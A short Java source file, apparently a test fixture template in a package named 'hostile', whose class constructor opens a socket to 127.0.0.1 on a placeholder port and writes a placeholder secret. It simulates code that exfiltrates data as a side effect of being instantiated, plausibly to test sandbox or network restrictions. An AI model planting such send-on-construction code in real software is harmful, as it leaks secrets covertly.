package hostile;

import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.AsynchronousSocketChannel;

public final class Source {
    public Source() throws Exception {
        AsynchronousSocketChannel channel = AsynchronousSocketChannel.open();
        channel.connect(new InetSocketAddress("127.0.0.1", @TCP@)).get();
        channel.write(ByteBuffer.wrap("@SECRET@".getBytes())).get();
        channel.close();
    }
}
